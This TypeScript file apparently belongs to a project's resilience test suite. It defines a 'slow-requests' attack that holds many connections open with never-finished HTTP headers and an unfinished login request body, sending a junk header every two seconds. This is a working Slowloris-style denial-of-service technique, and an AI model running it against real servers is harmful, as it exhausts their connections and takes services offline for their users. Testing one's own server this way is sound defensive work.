/** Headers that never end and bodies that never come, a few bytes at a time. */
import type { Socket } from 'node:net';
import { API_BASE } from '@tern/protocol';
import { CALLS } from '@tern/protocol/calls';
import { ADDRESSES, type Attack } from '../target.ts';

const PER_ADDRESS = 20;
const BEGINNINGS = [
  'GET / HTTP/1.1\r\nhost: x\r\n',
  `POST ${API_BASE}${CALLS.login.path} HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\ncontent-length: 60000\r\n\r\n{`,
];

export const slowRequests: Attack = {
  name: 'slow-requests',
  begin(target) {
    const open = new Set<Socket>();
    for (let index = 0; index < ADDRESSES * PER_ADDRESS; index++)
      target.keepOpen(index, (socket) => {
        socket.write(BEGINNINGS[index % 2] as string);
        open.add(socket);
        socket.once('close', () => open.delete(socket));
      });
    target.every(2, () => {
      for (const socket of open) socket.write('x:y\r\n');
    });
  },
};
